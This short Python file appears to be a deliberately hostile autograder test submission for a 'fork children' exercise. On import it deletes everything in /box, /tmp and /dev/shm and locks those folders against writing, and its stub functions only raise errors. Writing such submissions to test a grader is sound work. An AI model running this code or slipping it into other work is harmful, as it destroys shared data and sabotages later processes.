"""Empties its box and forbids everybody to write there, where the next stage wants to.

exercise: 10_fork_children
points: 0
codes: C401
checks: numbers_agree, every_child_ends
"""

import os
import shutil

for folder in ("/box", "/tmp", "/dev/shm"):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
    os.chmod(folder, 0o500)


def introduce():
    raise ValueError("done")


def spawn(n):
    raise ValueError("done")
